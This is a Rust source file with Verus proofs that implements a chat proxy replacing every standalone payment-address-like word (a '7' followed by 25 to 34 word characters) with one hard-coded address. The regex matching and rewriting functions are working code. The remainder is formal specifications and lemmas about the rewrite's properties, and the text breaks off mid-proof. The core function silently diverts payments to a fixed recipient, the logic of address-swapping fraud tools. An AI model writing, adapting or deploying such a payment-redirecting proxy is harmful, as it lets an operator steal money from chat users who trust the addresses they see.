//! A proxy in front of a chat that puts one address for payments in the place of all others.

use vstd::prelude::*;
use vstd::string::*;
use vstd::utf8::*;

use crate::text::between_bytes;
use crate::text::byte_len;
use crate::text::byte_length;
use crate::text::chars_of;
use crate::text::is_boundary;
use crate::text::join_with;
use crate::text::law_bytes_of_characters;
use crate::text::law_join_split;
use crate::text::law_pieces_are_joined;
use crate::text::law_separators_part;
use crate::text::law_split_join;
use crate::text::law_strings_are_cut_between_characters;
use crate::text::lemma_ascii_boundary;
use crate::text::lemma_pieces_are_of_the_text;
use crate::text::lemma_split_bytes;
use crate::text::slice_bytes;
use crate::text::split_on;

verus! {

/// A range of bytes: where it begins, and where it ends.
pub type Span = (usize, usize);

/// The matches that `Regex::find_iter` gives of a pattern in a text, from the first to the last: where
/// each begins and ends, in bytes.
pub uninterp spec fn pattern_matches(pattern: Seq<char>, text: Seq<char>) -> Seq<(usize, usize)>;

/// The pattern of an address: a word that begins with a seven, of 26 to 35 characters.
pub open spec fn address_pattern() -> Seq<char> {
    "\\b7\\w{25,34}\\b"@
}

/// Whether ranges begin and end between characters of `text`, and follow one another.
pub open spec fn are_spans(spans: Seq<Span>, text: Seq<char>) -> bool {
    &&& forall|k: int|
        0 <= k < spans.len() ==> {
            &&& (#[trigger] spans[k]).0 < spans[k].1
            &&& is_boundary(text, spans[k].0 as int)
            &&& is_boundary(text, spans[k].1 as int)
        }
    &&& forall|k: int, l: int|
        0 <= k < l < spans.len() ==> (#[trigger] spans[k]).1 <= (#[trigger] spans[l]).0
}

/// Whether `c`, a character of ASCII, is one of a word.
pub open spec fn is_word(c: char) -> bool {
    '0' <= c <= '9' || 'A' <= c <= 'Z' || 'a' <= c <= 'z' || c == '_'
}

/// Whether what stands from `start` up to `end` in a text in ASCII is a whole word that begins with
/// a seven and has 26 to 35 characters.
pub open spec fn is_address_at(text: Seq<char>, start: int, end: int) -> bool {
    &&& 0 <= start
    &&& end <= text.len()
    &&& 26 <= end - start <= 35
    &&& text[start] == '7'
    &&& forall|i: int| start <= i < end ==> is_word(#[trigger] text[i])
    &&& start > 0 ==> !is_word(text[start - 1])
    &&& end < text.len() ==> !is_word(text[end])
}

/// Whether the range from `start` up to `end` is among `spans`.
pub open spec fn is_listed(spans: Seq<Span>, start: int, end: int) -> bool {
    exists|k: int| 0 <= k < spans.len() && (#[trigger] spans[k]).0 == start && spans[k].1 == end
}

/// Whether the addresses of a text in ASCII are these.
pub open spec fn are_addresses(spans: Seq<Span>, text: Seq<char>) -> bool {
    forall|start: int, end: int| #[trigger]
        is_listed(spans, start, end) <==> is_address_at(text, start, end)
}

/// `Regex::find_iter` of the pattern of an address: where its matches begin and end, in bytes. They
/// are not empty, do not overlap, come in the order in which they stand, and begin and end between
/// characters. In a text in ASCII they are the words that begin with a seven and have 26 to 35
/// characters; which characters beyond ASCII count as those of a word is left to the name.
#[verifier::external_body]
fn find_matches(pattern: &str, text: &str) -> (out: Vec<Span>)
    requires
        pattern@ == address_pattern(),
    ensures
        out@ == pattern_matches(pattern@, text@),
        are_spans(out@, text@),
        is_ascii_chars(text@) ==> are_addresses(out@, text@),
{
    let re = regex::Regex::new(pattern).expect("failed to compile regex");
    re.find_iter(text).map(|m| (m.start(), m.end())).collect()
}

/// The matches of the pattern of an address.
pub open spec fn addresses(message: Seq<char>) -> Seq<Span> {
    pattern_matches(address_pattern(), message)
}

/// Whether the character after each of the ranges, counted in characters, is there.
pub open spec fn end_inside(spans: Seq<Span>, message: Seq<char>) -> bool {
    forall|k: int| 0 <= k < spans.len() ==> (#[trigger] spans[k]).1 < message.len()
}

/// What comes in the place of a match: the one address, if the match stands between spaces or the
/// ends of the line, and else what was there. Where it begins and ends is counted in bytes, and the
/// characters around it are looked up by the same counts.
pub open spec fn replacement(message: Seq<char>, span: Span) -> Seq<char> {
    if (span.0 == 0 || message[span.0 - 1] == ' ') && (message[span.1 as int] == '\n'
        || message[span.1 as int] == ' ') {
        "7YWHMfk9JZe0LM0g1ZauHuiSxhI"@
    } else {
        between_bytes(message, span.0 as int, span.1 as int)
    }
}

/// Where the last of the ranges ends.
pub open spec fn last_end(spans: Seq<Span>) -> int {
    if spans.len() == 0 {
        0
    } else {
        spans.last().1 as int
    }
}

/// `message` up to the end of the last range, with the ranges replaced.
pub open spec fn rewritten_up_to(message: Seq<char>, spans: Seq<Span>) -> Seq<char>
    decreases spans.len(),
{
    if spans.len() == 0 {
        Seq::empty()
    } else {
        rewritten_up_to(message, spans.drop_last()) + between_bytes(
            message,
            last_end(spans.drop_last()),
            spans.last().0 as int,
        ) + replacement(message, spans.last())
    }
}

/// `message` with the ranges replaced.
pub open spec fn rewritten(message: Seq<char>, spans: Seq<Span>) -> Seq<char> {
    rewritten_up_to(message, spans) + between_bytes(
        message,
        last_end(spans),
        byte_len(message) as int,
    )
}

/// Whether a word, in ASCII, is an address.
pub open spec fn is_address(word: Seq<char>) -> bool {
    &&& 26 <= word.len() <= 35
    &&& word[0] == '7'
    &&& forall|i: int| 0 <= i < word.len() ==> is_word(#[trigger] word[i])
}

/// What becomes of a word.
pub open spec fn rewritten_word(word: Seq<char>) -> Seq<char> {
    if is_address(word) {
        "7YWHMfk9JZe0LM0g1ZauHuiSxhI"@
    } else {
        word
    }
}

/// What precedes the first line feed of a piece of text.
pub open spec fn first_line(piece: Seq<char>) -> Seq<char> {
    match piece.index_of_first('\n') {
        Some(i) => piece.take(i),
        None => piece,
    }
}

/// What becomes of a piece of text that stands between two spaces, or between a space and an end of
/// the text: what precedes its first line feed is rewritten, and the rest stays.
pub open spec fn rewritten_piece(piece: Seq<char>) -> Seq<char> {
    rewritten_word(first_line(piece)) + piece.skip(first_line(piece).len() as int)
}

/// What becomes of pieces of text.
pub open spec fn rewritten_pieces(pieces: Seq<Seq<char>>) -> Seq<Seq<char>> {
    pieces.map_values(|p: Seq<char>| rewritten_piece(p))
}

/// Whether a message is in ASCII and ends with a line feed.
pub open spec fn is_ascii_text(message: Seq<char>) -> bool {
    &&& message.len() > 0
    &&& message.last() == '\n'
    &&& is_ascii_chars(message)
}

/// What becomes of a message in ASCII: what stands between its spaces is rewritten piece by piece.
pub open spec fn rewritten_text(message: Seq<char>) -> Seq<char> {
    join_with(rewritten_pieces(split_on(message, ' ')), seq![' '])
}

/// Puts the one address in the place of the matches that stand alone.
pub fn rewrite_matches(message: &str, matches: &[Span]) -> (out: String)
    requires
        are_spans(matches@, message@),
        end_inside(matches@, message@),
    ensures
        out@ == rewritten(message@, matches@),
{
    let chars = chars_of(message);
    let mut out = String::new();
    let mut at: usize = 0;
    let mut k: usize = 0;
    proof {
        encode_utf8_valid_utf8(message@);
        is_char_boundary_start_end_of_seq(encode_utf8(message@));
        assert(matches@.take(0) == Seq::<Span>::empty());
    }
    while k < matches.len()
        invariant
            k <= matches.len(),
            chars@ == message@,
            are_spans(matches@, message@),
            end_inside(matches@, message@),
            at == last_end(matches@.take(k as int)),
            is_boundary(message@, at as int),
            out@ == rewritten_up_to(message@, matches@.take(k as int)),
        decreases matches.len() - k,
    {
        let (start, end) = matches[k];
        proof {
            assert(matches@[k as int] == (start, end));
            assert(matches@.take(k + 1).drop_last() == matches@.take(k as int));
            assert(matches@.take(k + 1).last() == matches@[k as int]);
            if k > 0 {
                assert(matches@.take(k as int).last() == matches@[k - 1]);
            }
        }
        out.append(slice_bytes(message, at, start));
        let follows = chars[end];
        if (start == 0 || chars[start - 1] == ' ') && (follows == '\n' || follows == ' ') {
            out.append("7YWHMfk9JZe0LM0g1ZauHuiSxhI");
        } else {
            out.append(slice_bytes(message, start, end));
        }
        at = end;
        k = k + 1;
    }
    assert(matches@.take(matches@.len() as int) == matches@);
    let length: usize = byte_length(message);
    proof {
        lemma_split_bytes(message@, at as int);
    }
    out.append(slice_bytes(message, at, length));
    out
}

/// Puts the one address in the place of those that stand alone in a line of the chat. Each must
/// end before the last character of the line.
pub fn rewrite_addresses(message: &str) -> (out: String)
    requires
        end_inside(addresses(message@), message@),
    ensures
        out@ == rewritten(message@, addresses(message@)),
        are_spans(addresses(message@), message@),
        is_ascii_chars(message@) ==> are_addresses(addresses(message@), message@),
        is_ascii_text(message@) ==> out@ == rewritten_text(message@),
{
    let matches = find_matches("\\b7\\w{25,34}\\b", message);
    proof {
        if is_ascii_text(message@) {
            law_texts_are_rewritten_piece_by_piece(message@, matches@);
        }
    }
    rewrite_matches(message, matches.as_slice())
}

/// Puts the one address in the place of those that stand alone in a line of the chat. There is no
/// line if one of them ends with the line, or the line has fewer characters than bytes stand before
/// its end.
pub fn try_rewrite_addresses(message: &str) -> (out: Option<String>)
    ensures
        out is Some == end_inside(addresses(message@), message@),
        out matches Some(line) ==> line@ == rewritten(message@, addresses(message@)),
        are_spans(addresses(message@), message@),
        is_ascii_chars(message@) ==> are_addresses(addresses(message@), message@),
        is_ascii_text(message@) ==> out is Some,
        is_ascii_text(message@) ==> out->0@ == rewritten_text(message@),
{
    let matches = find_matches("\\b7\\w{25,34}\\b", message);
    proof {
        if is_ascii_text(message@) {
            law_texts_are_rewritten_piece_by_piece(message@, matches@);
        }
    }
    let length: usize = chars_of(message).len();
    let mut k: usize = 0;
    while k < matches.len()
        invariant
            k <= matches.len(),
            length == message@.len(),
            matches@ == addresses(message@),
            are_spans(matches@, message@),
            is_ascii_chars(message@) ==> are_addresses(matches@, message@),
            is_ascii_text(message@) ==> end_inside(matches@, message@),
            forall|j: int| 0 <= j < k ==> (#[trigger] matches@[j]).1 < message@.len(),
        decreases matches.len() - k,
    {
        if matches[k].1 >= length {
            return None;
        }
        k = k + 1;
    }
    Some(rewrite_addresses(message))
}

/// Where nothing is found, nothing is changed.
pub proof fn law_nothing_found_nothing_changed(message: Seq<char>)
    ensures
        rewritten(message, Seq::empty()) == message,
{
    encode_utf8_decode_utf8(message);
    assert(encode_utf8(message).subrange(0, byte_len(message) as int) == encode_utf8(message));
}

/// A message in ASCII that ends with a line feed is always rewritten, and piece by piece: what stands
/// at its beginning or behind a space, up to the next space or line feed, is replaced if it is an
/// address, and all else stays.
pub proof fn law_texts_are_rewritten_piece_by_piece(message: Seq<char>, spans: Seq<Span>)
    requires
        is_ascii_text(message),
        are_spans(spans, message),
        are_addresses(spans, message),
    ensures
        end_inside(spans, message),
        rewritten(message, spans) == rewritten_text(message),
{
    let pieces = split_on(message, ' ');
    let end = message.len() as int;
    assert forall|k: int| 0 <= k < spans.len() implies (#[trigger] spans[k]).1 < end by {
        lemma_span_is_address(message, spans, k);
        assert(is_word(message[spans[k].1 - 1]));
    }
    law_split_join(message, ' ');
    assert(pieces.take(pieces.len() as int) == pieces);
    let n = lemma_pieces(message, spans, pieces.len() as int);
    assert(spans.take(n) == spans);
    lemma_ascii_slice(message, last_end(spans), end);
    lemma_ascii_boundary(message, 0);
}

/// A line in ASCII is rewritten word by word: what stands between two spaces, or between a space
/// and an end of the line, is replaced if it is an address, and stays if it is not.
pub proof fn law_lines_are_rewritten_word_by_word(line: Seq<char>)
    requires
        !line.contains('\n'),
    ensures
        rewritten_text(line.push('\n')) == join_with(
            split_on(line, ' ').map_values(|w: Seq<char>| rewritten_word(w)),
            seq![' '],
        ).push('\n'),
{
    let message = line.push('\n');
    let words = split_on(line, ' ');
    let rewritten = words.map_values(|w: Seq<char>| rewritten_word(w));
    let last = words.len() - 1;
    law_split_join(line, ' ');
    assert(message.drop_last() == line);
    let pieces = split_on(message, ' ');
    assert(pieces == words.drop_last().push(words.last().push('\n')));
    assert forall|k: int| 0 <= k < words.len() implies !(#[trigger] words[k]).contains('\n') by {
        lemma_pieces_are_of_the_text(line, ' ', k, '\n');
    }
    assert forall|k: int| 0 <= k < last implies rewritten_piece(#[trigger] words[k])
        == rewritten_word(words[k]) by {
        lemma_first_line_is(words[k], Seq::empty());
        assert(words[k] + Seq::<char>::empty() == words[k]);
        assert(words[k].skip(words[k].len() as int) == Seq::<char>::empty());
    }
    let word = words[last];
    lemma_first_line_is(word, seq!['\n']);
    assert(word + seq!['\n'] == word.push('\n'));
    assert(word.push('\n').skip(word.len() as int) == seq!['\n']);
    assert(rewritten_piece(word.push('\n')) == rewritten_word(word).push('\n'));
    assert(rewritten_pieces(pieces).drop_last() == rewritten.drop_last());
    assert(rewritten_pieces(pieces).last() == rewritten.last().push('\n'));
}

/// Rewriting twice is rewriting once: what has been rewritten is again a message in ASCII that ends
/// with a line feed, and stays as it is.
pub proof fn law_rewriting_twice_is_rewriting_once(message: Seq<char>)
    requires
        is_ascii_text(message),
    ensures
        is_ascii_text(rewritten_text(message)),
        rewritten_text(rewritten_text(message)) == rewritten_text(message),
{
    let pieces = split_on(message, ' ');
    let rewritten = rewritten_pieces(pieces);
    law_split_join(message, ' ');
    assert forall|k: int| 0 <= k < rewritten.len() implies !(#[trigger] rewritten[k]).contains(
        ' ',
    ) && rewritten_piece(rewritten[k]) == rewritten[k] by {
        assert(!pieces[k].contains(' '));
        lemma_rewritten_piece(pieces[k]);
    }
    law_join_split(rewritten, ' ');
    assert(rewritten_pieces(rewritten) == rewritten);
    lemma_text_stays_ascii(message);
}

/// How often a character occurs in a text.
pub open spec fn occurrences(text: Seq<char>, c: char) -> nat
    decreases text.len(),
{
    if text.len() == 0 {
        0
    } else {
        occurrences(text.drop_last(), c) + if text.last() == c {
            1nat
        } else {
            0nat
        }
    }
}

/// Rewriting keeps the numbers of spaces and line feeds.
pub proof fn law_spaces_and_line_feeds_are_kept(message: Seq<char>)
    ensures
        occurrences(rewritten_text(message), ' ') == occurrences(message, ' '),
        occurrences(rewritten_text(message), '\n') == occurrences(message, '\n'),
{
    law_split_join(message, ' ');
    lemma_occurrences_are_kept(split_on(message, ' '), ' ');
    lemma_occurrences_are_kept(split_on(message, ' '), '\n');
}

/// `message` up to `i` with the first `n` ranges replaced.
spec fn part(message: Seq<char>, spans: Seq<Span>, n: int, i: int) -> Seq<char> {
    rewritten_up_to(message, spans.take(n)) + message.subrange(last_end(spans.take(n)), i)
}

/// Whether the first `n` ranges end at `i` or before, and the others begin at `i` or after.
spec fn is_cut(spans: Seq<Span>, n: int, i: int) -> bool {
    &&& 0 <= n <= spans.len()
    &&& 0 <= i
    &&& n > 0 ==> spans[n - 1].1 <= i
    &&& n < spans.len() ==> i <= spans[n].0
}

proof fn lemma_ascii_slice(s: Seq<char>, i: int, j: int)
    requires
        is_ascii_chars(s),
        0 <= i <= j <= s.len(),
    ensures
        between_bytes(s, i, j) == s.subrange(i, j),
{
    let part = s.subrange(i, j);
    assert(is_ascii_chars(part));
    is_ascii_chars_encode_utf8(s);
    is_ascii_chars_encode_utf8(part);
    assert(encode_utf8(s).subrange(i, j) == encode_utf8(part)) by {
        assert forall|k: int| 0 <= k < part.len() implies encode_utf8(part)[k] == encode_utf8(
            s,
        ).subrange(i, j)[k] by {
            assert(part[k] == s[i + k]);
        }
    }
    encode_utf8_decode_utf8(part);
}

proof fn lemma_span_is_address(message: Seq<char>, spans: Seq<Span>, k: int)
    requires
        are_addresses(spans, message),
        0 <= k < spans.len(),
    ensures
        is_address_at(message, spans[k].0 as int, spans[k].1 as int),
{
    assert(is_listed(spans, spans[k].0 as int, spans[k].1 as int));
}

/// Replacing one more range.
proof fn lemma_next_span(message: Seq<char>, spans: Seq<Span>, n: int, i: int)
    requires
        is_ascii_chars(message),
        are_spans(spans, message),
        n < spans.len(),
        is_cut(spans, n, i),
        spans[n].1 <= message.len(),
    ensures
        is_cut(spans, n + 1, spans[n].1 as int),
        part(message, spans, n + 1, spans[n].1 as int) == part(message, spans, n, i)
            + message.subrange(i, spans[n].0 as int) + replacement(message, spans[n]),
{
    let (start, end) = spans[n];
    assert(spans.take(n + 1).drop_last() == spans.take(n));
    assert(spans.take(n + 1).last() == spans[n]);
    let last = last_end(spans.take(n));
    if n > 0 {
        assert(spans.take(n).last() == spans[n - 1]);
    }
    lemma_ascii_slice(message, last, start as int);
    assert(message.subrange(last, start as int) == message.subrange(last, i) + message.subrange(
        i,
        start as int,
    ));
    assert(message.subrange(end as int, end as int) == Seq::<char>::empty());
    assert(part(message, spans, n + 1, end as int) == rewritten_up_to(message, spans.take(n))
        + message.subrange(last, start as int) + replacement(message, spans[n]));
}

/// Going on without a range.
proof fn lemma_plain(message: Seq<char>, spans: Seq<Span>, n: int, i: int, j: int)
    requires
        is_cut(spans, n, i),
        i <= j <= message.len(),
    ensures
        part(message, spans, n, j) == part(message, spans, n, i) + message.subrange(i, j),
{
    let last = last_end(spans.take(n));
    if n > 0 {
        assert(spans.take(n).last() == spans[n - 1]);
    }
    assert(message.subrange(last, j) == message.subrange(last, i) + message.subrange(i, j));
}

/// Going on over ranges that are not replaced, up to the end or a character that is not one of a
/// word.
proof fn lemma_nothing_replaced(
    message: Seq<char>,
    spans: Seq<Span>,
    n: int,
    i: int,
    b: int,
) -> (next: int)
    requires
        is_ascii_chars(message),
        are_spans(spans, message),
        are_addresses(spans, message),
        is_cut(spans, n, i),
        i <= b <= message.len(),
        b < message.len() ==> !is_word(message[b]),
        forall|k: int| n <= k < spans.len() && (#[trigger] spans[k]).1 <= b ==> replacement(
            message,
            spans[k],
        ) == message.subrange(spans[k].0 as int, spans[k].1 as int),
    ensures
        is_cut(spans, next, b),
        part(message, spans, next, b) == part(message, spans, n, i) + message.subrange(i, b),
    decreases spans.len() - n,
{
    if n < spans.len() && spans[n].0 < b {
        let (start, end) = spans[n];
        lemma_span_is_address(message, spans, n);
        assert(end <= b) by {
            if b < end {
                assert(is_word(message[b]));
            }
        }
        lemma_next_span(message, spans, n, i);
        let next = lemma_nothing_replaced(message, spans, n + 1, end as int, b);
        assert(message.subrange(i, b) == message.subrange(i, start as int) + message.subrange(
            start as int,
            end as int,
        ) + message.subrange(end as int, b));
        next
    } else {
        lemma_plain(message, spans, n, i, b);
        n
    }
}

/// Going on over one word.
proof fn lemma_word(message: Seq<char>, spans: Seq<Span>, n: int, a: int, b: int) -> (next: int)
    requires
        is_ascii_chars(message),
        are_spans(spans, message),
        are_addresses(spans, message),
        is_cut(spans, n, a),
        0 <= a <= b < message.len(),
        a > 0 ==> message[a - 1] == ' ',
        message[b] == ' ' || message[b] == '\n',
        forall|i: int| a <= i < b ==> #[trigger] message[i] != ' ' && message[i] != '\n',
    ensures
        is_cut(spans, next, b),
        part(message, spans, next, b) == part(message, spans, n, a) + rewritten_word(
            message.subrange(a, b),
        ),
{
    let word = message.subrange(a, b);
    if is_address(word) {
        assert(is_address_at(message, a, b)) by {
            assert forall|i: int| a <= i < b implies is_word(#[trigger] message[i]) by {
                assert(word[i - a] == message[i]);
            }
            assert(word[0] == message[a]);
        }
        assert(is_listed(spans, a, b));
        let k = choose|k: int|
            0 <= k < spans.len() && (#[trigger] spans[k]).0 == a && spans[k].1 == b;
        if k < n {
            assert(spans[n - 1].1 <= a);
            if k < n - 1 {
                assert(spans[k].1 <= spans[n - 1].0);
            }
        }
        if k > n {
            assert(spans[n].1 <= spans[k].0);
        }
        assert(k == n);
        lemma_next_span(message, spans, n, a);
        assert(message.subrange(a, a) == Seq::<char>::empty());
        n + 1
    } else {
        assert forall|k: int| n <= k < spans.len() && (#[trigger] spans[k]).1 <= b implies
            replacement(message, spans[k]) == message.subrange(
            spans[k].0 as int,
            spans[k].1 as int,
        ) by {
            let (start, end) = spans[k];
            lemma_span_is_address(message, spans, k);
            lemma_ascii_slice(message, start as int, end as int);
            if k > n {
                assert(spans[n].1 <= spans[k].0);
            }
            assert(a <= start);
            if start == a && end == b {
                assert forall|i: int| 0 <= i < word.len() implies is_word(#[trigger] word[i]) by {
                    assert(word[i] == message[a + i]);
                }
                assert(word[0] == message[a]);
                assert(is_address(word));
            } else if start > a {
                assert(message[start - 1] != ' ');
            } else {
                assert(message[end as int] != ' ');
            }
        }
        lemma_nothing_replaced(message, spans, n, a, b)
    }
}

/// Going on over one piece.
proof fn lemma_piece(message: Seq<char>, spans: Seq<Span>, n: int, a: int, c: int) -> (next: int)
    requires
        is_ascii_text(message),
        are_spans(spans, message),
        are_addresses(spans, message),
        is_cut(spans, n, a),
        0 <= a <= c <= message.len(),
        a > 0 ==> message[a - 1] == ' ',
        c < message.len() ==> message[c] == ' ',
        forall|i: int| a <= i < c ==> #[trigger] message[i] != ' ',
    ensures
        is_cut(spans, next, c),
        part(message, spans, next, c) == part(message, spans, n, a) + rewritten_piece(
            message.subrange(a, c),
        ),
{
    let piece = message.subrange(a, c);
    let head = first_line(piece);
    let b = a + head.len();
    lemma_first_line(piece);
    if b < c {
        assert(message[b] == piece[b - a]);
    } else if c == message.len() {
        assert(message.last() == message[c - 1]);
        assert(piece[c - 1 - a] == message[c - 1]);
        assert(head[c - 1 - a] == '\n');
    }
    assert forall|i: int| a <= i < b implies #[trigger] message[i] != ' ' && message[i] != '\n' by {
        assert(head[i - a] == message[i]);
    }
    assert(message.subrange(a, b) == head);
    let middle = lemma_word(message, spans, n, a, b);
    assert forall|k: int| middle <= k < spans.len() && (#[trigger] spans[k]).1 <= c implies
        replacement(message, spans[k]) == message.subrange(spans[k].0 as int, spans[k].1 as int) by {
        let (start, end) = spans[k];
        lemma_span_is_address(message, spans, k);
        if k > middle {
            assert(spans[middle].1 <= spans[k].0);
        }
        assert(is_word(message[start as int]));
        assert(message[start - 1] != ' ');
        lemma_ascii_slice(message, start as int, end as int);
    }
    let next = lemma_nothing_replaced(message, spans, middle, b, c);
    assert(piece.skip(head.len() as int) == message.subrange(b, c));
    next
}

/// Going on over the first pieces of a message.
proof fn lemma_pieces(message: Seq<char>, spans: Seq<Span>, count: int) -> (n: int)
    requires
        is_ascii_text(message),
        are_spans(spans, message),
        are_addresses(spans, message),
        1 <= count <= split_on(message, ' ').len(),
    ensures
        ({
            let pieces = split_on(message, ' ').take(count);
            let end = join_with(pieces, seq![' ']).len() as int;
            &&& end <= message.len()
            &&& message.take(end) == join_with(pieces, seq![' '])
            &&& count < split_on(message, ' ').len() ==> end < message.len() && message[end] == ' '
            &&& count == split_on(message, ' ').len() ==> end == message.len() && n == spans.len()
            &&& is_cut(spans, n, end)
            &&& part(message, spans, n, end) == join_with(rewritten_pieces(pieces), seq![' '])
        }),
    decreases count,
{
    let all = split_on(message, ' ');
    let pieces = all.take(count);
    let joined = join_with(pieces, seq![' ']);
    let end = joined.len() as int;
    law_split_join(message, ' ');
    lemma_join_prefix(all, count);
    if count == all.len() {
        assert(pieces == all);
    }
    assert(!all[count - 1].contains(' '));
    let piece = pieces.last();
    assert(piece == all[count - 1]);
    let rewritten = rewritten_pieces(pieces);
    let a = end - piece.len();
    assert(message.subrange(a, end) == piece) by {
        assert(joined.subrange(a, end) == piece);
        assert(message.subrange(a, end) == message.take(end).subrange(a, end));
    }
    assert forall|i: int| a <= i < end implies #[trigger] message[i] != ' ' by {
        assert(piece[i - a] == message[i]);
        assert(piece.contains(piece[i - a]));
    }
    let n = if count == 1 {
        assert(a == 0);
        assert(spans.take(0) == Seq::<Span>::empty());
        assert(part(message, spans, 0, 0) == Seq::<char>::empty());
        let n = lemma_piece(message, spans, 0, 0, end);
        assert(rewritten =~= seq![rewritten_piece(piece)]);
        n
    } else {
        let n = lemma_pieces(message, spans, count - 1);
        let shorter = all.take(count - 1);
        assert(pieces.drop_last() == shorter);
        let at = join_with(shorter, seq![' ']).len() as int;
        assert(a == at + 1);
        if n < spans.len() {
            lemma_span_is_address(message, spans, n);
            if spans[n].0 == at {
                assert(is_word(message[at]));
            }
        }
        lemma_plain(message, spans, n, at, a);
        assert(message.subrange(at, a) == seq![' ']);
        let next = lemma_piece(message, spans, n, a, end);
        assert(rewritten.drop_last() =~= rewritten_pieces(shorter));
        assert(rewritten.last() == rewritten_piece(piece));
        next
    };
    if count == all.len() && n < spans.len() {
        lemma_span_is_address(message, spans, n);
    }
    n
}

/// What precedes the first line feed of a piece holds none, and is followed by one or by nothing.
proof fn lemma_first_line(piece: Seq<char>)
    ensures
        first_line(piece).len() <= piece.len(),
        piece.take(first_line(piece).len() as int) == first_line(piece),
        forall|i: int| 0 <= i < first_line(piece).len() ==> #[trigger] first_line(piece)[i] != '\n',
        first_line(piece).len() < piece.len() ==> piece[first_line(piece).len() as int] == '\n',
{
    piece.index_of_first_ensures('\n');
    if piece.index_of_first('\n') is None {
        assert forall|i: int| 0 <= i < piece.len() implies #[trigger] piece[i] != '\n' by {
            assert(piece.contains(piece[i]));
        }
    }
}

/// A text is told apart at its first line feed in one way.
proof fn lemma_first_line_is(head: Seq<char>, tail: Seq<char>)
    requires
        !head.contains('\n'),
        tail.len() == 0 || tail[0] == '\n',
    ensures
        first_line(head + tail) == head,
{
    let piece = head + tail;
    lemma_first_line(piece);
    let n = first_line(piece).len() as int;
    if n < head.len() {
        assert(piece[n] == head[n]);
        assert(head.contains(head[n]));
    }
    if n > head.len() {
        assert(first_line(piece)[head.len() as int] == piece[head.len() as int]);
    }
    assert(piece.take(head.len() as int) == head);
}

/// The one address is an address.
proof fn lemma_the_address()
    ensures
        is_address("7YWHMfk9JZe0LM0g1ZauHuiSxhI"@),
{
    reveal_strlit("7YWHMfk9JZe0LM0g1ZauHuiSxhI");
}

/// What has been made of a piece stays as it is, and has the spaces and line feeds of the piece.
proof fn lemma_rewritten_piece(piece: Seq<char>)
    ensures
        rewritten_piece(rewritten_piece(piece)) == rewritten_piece(piece),
        !piece.contains(' ') ==> !rewritten_piece(piece).contains(' '),
        piece.len() > 0 && piece.last() == '\n' ==> rewritten_piece(piece).len() > 0
            && rewritten_piece(piece).last() == '\n',
        is_ascii_chars(piece) ==> is_ascii_chars(rewritten_piece(piece)),
        forall|c: char|
            c == ' ' || c == '\n' ==> #[trigger] occurrences(rewritten_piece(piece), c)
                == occurrences(piece, c),
{
    let head = first_line(piece);
    let tail = piece.skip(head.len() as int);
    let word = rewritten_word(head);
    lemma_first_line(piece);
    lemma_the_address();
    assert(piece == head + tail);
    assert forall|i: int| 0 <= i < word.len() implies #[trigger] word[i] != '\n' by {
        if is_address(head) {
            assert(is_word(word[i]));
        }
    }
    lemma_first_line_is(word, tail);
    assert((word + tail).skip(word.len() as int) == tail);
    assert(rewritten_piece(piece) == word + tail);
    if is_address(head) {
        assert forall|c: char| c == ' ' || c == '\n' implies occurrences(word, c) == 0
            && occurrences(head, c) == 0 by {
            lemma_words_hold_no(word, c);
            lemma_words_hold_no(head, c);
        }
    }
    assert forall|c: char| c == ' ' || c == '\n' implies #[trigger] occurrences(
        rewritten_piece(piece),
        c,
    ) == occurrences(piece, c) by {
        lemma_occurrences_concat(word, tail, c);
        lemma_occurrences_concat(head, tail, c);
    }
    if !piece.contains(' ') {
        assert forall|i: int| 0 <= i < (word + tail).len() implies (word + tail)[i] != ' ' by {
            if i < word.len() {
                if is_address(head) {
                    assert(is_word(word[i]));
                } else {
                    assert(piece.contains(piece[i]));
                }
            } else {
                assert(piece.contains(piece[head.len() + (i - word.len())]));
            }
        }
    }
    if piece.len() > 0 && piece.last() == '\n' {
        if tail.len() == 0 {
            assert(head == piece);
            assert(head[head.len() - 1] == '\n');
        }
        assert(tail.last() == piece.last());
    }
    if is_ascii_chars(piece) {
        assert forall|i: int| 0 <= i < (word + tail).len() implies '\0' <= #[trigger] (word + tail)[i]
            <= '\u{7f}' by {
            if i < word.len() {
                if is_address(head) {
                    assert(is_word(word[i]));
                } else {
                    assert(word[i] == piece[i]);
                }
            } else {
                assert((word + tail)[i] == piece[head.len() + (i - word.len())]);
            }
        }
    }
}

proof fn lemma_words_hold_no(word: Seq<char>, c: char)
    requires
        forall|i: int| 0 <= i < word.len() ==> is_word(#[trigger] word[i]),
        !is_word(c),
    ensures
        occurrences(word, c) == 0,
    decreases word.len(),
{
    if word.len() > 0 {
        assert(is_word(word[word.len() - 1]));
        assert forall|i: int| 0 <= i < word.drop_last().len() implies is_word(
            #[trigger] word.drop_last()[i],
        ) by {
            assert(is_word(word[i]));
        }
        lemma_words_hold_no(word.drop_last(), c);
    }
}

proof fn lemma_occurrences_concat(a: Seq<char>, b: Seq<char>, c: char)
    ensures
        occurrences(a + b, c) == occurrences(a, c) + occurrences(b, c),
    decreases b.len(),
{
    if b.len() == 0 {
        assert(a + b == a);
    } else {
        assert((a + b).drop_last() == a + b.drop_last());
        lemma_occurrences_concat(a, b.drop_last(), c);
    }
}

proof fn lemma_occurrences_are_kept(pieces: Seq<Seq<char>>, c: char)
    requires
        c == ' ' || c == '\n',
    ensures
        occurrences(join_with(rewritten_pieces(pieces), seq![' ']), c) == occurrences(
            join_with(pieces, seq![' ']),
            c,
        ),
    decreases pieces.len(),
{
    let rewritten = rewritten_pieces(pieces);
    if pieces.len() > 0 {
        lemma_rewritten_piece(pieces.last());
        assert(rewritten.last() == rewritten_piece(pieces.last()));
    }
    if pieces.len() > 1 {
        let shorter = pieces.drop_last();
        lemma_occurrences_are_kept(shorter, c);
        assert(rewritten.drop_last() == rewritten_pieces(shorter));
        let before = join_with(shorter, seq![' ']);
        let after = join_with(rewritten_pieces(shorter), seq![' ']);
        lemma_occurrences_concat(before + seq![' '], pieces.last(), c);
        lemma_occurrences_concat(before, seq![' '], c);
        lemma_occurrences_concat(after + seq![' '], rewritten.last(), c);
        lemma_occurrences_concat(after, seq![' '], c);
    }
}

/// What has been made of a message in ASCII that ends with a line feed is one again.
proof fn lemma_text_stays_ascii(message: Seq<char>)
    requires
        is_ascii_text(message),
    ensures
        is_ascii_text(rewritten_text(message)),
{
    let pieces = split_on(message, ' ');
    let rewritten = rewritten_pieces(pieces);
    law_split_join(message, ' ');
    let last = pieces.len() - 1;
    lemma_join_is_ascii(pieces, rewritten);
    lemma_rewritten_piece(pieces[last]);
    let joined = join_with(rewritten, seq![' ']);
    assert(rewritten[last] == rewritten_piece(pieces[last]));
    assert(pieces[last].len() > 0 && pieces[last].last() == '\n') by {
